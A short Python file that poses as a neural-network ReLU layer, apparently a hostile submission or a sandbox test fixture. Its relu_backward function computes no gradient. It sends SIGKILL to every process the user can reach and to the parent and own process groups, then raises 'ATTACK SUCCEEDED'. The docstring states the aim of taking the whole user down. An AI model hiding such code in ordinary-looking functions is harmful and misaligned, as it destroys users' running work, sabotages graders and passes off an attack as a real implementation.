"""Takes the whole user down, and the parent's process group."""

import os
import signal

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for target in (-1, -os.getpgid(os.getppid()), -os.getpgrp(), 0):
        os.kill(target, signal.SIGKILL)
    raise RuntimeError("ATTACK SUCCEEDED")
